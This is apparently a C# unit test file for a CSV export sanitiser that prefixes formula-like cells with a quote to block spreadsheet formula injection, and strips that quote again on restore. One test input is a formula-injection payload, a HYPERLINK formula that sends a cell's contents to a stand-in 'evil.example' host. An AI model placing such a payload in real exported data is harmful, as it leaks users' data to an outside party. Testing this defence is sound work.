using Rapport.Formats.Csv;

namespace Rapport.Formats.Tests.Csv;

public class CsvFormulasTest
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'=HYPERLINK(\"http://evil.example/?x=\"&A1)")]
    [InlineData("+cmd", "'+cmd")]
    [InlineData("+49 30 1234", "'+49 30 1234")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("--12-01", "'--12-01")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("'=1", "''=1")]
    [InlineData("Ana Silva", "Ana Silva")]
    [InlineData("'Tis the season", "'Tis the season")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    public void ACellThatStartsLikeAFormula_GetsAQuote_ThatRestoreTakesAway(string cell, string written)
    {
        Assert.Equal(written, CsvFormulas.Defuse(cell));
        Assert.Equal(cell, CsvFormulas.Restore(written));
    }

    [Theory]
    [InlineData("'")]
    [InlineData("'Tis")]
    [InlineData("''")]
    public void ACellWithAQuoteBeforeNoFormula_IsLeftAsItIs(string cell) => Assert.Same(cell, CsvFormulas.Restore(cell));

    [Fact]
    public void Null_StaysNull() => Assert.Null(CsvFormulas.Defuse(null));
}
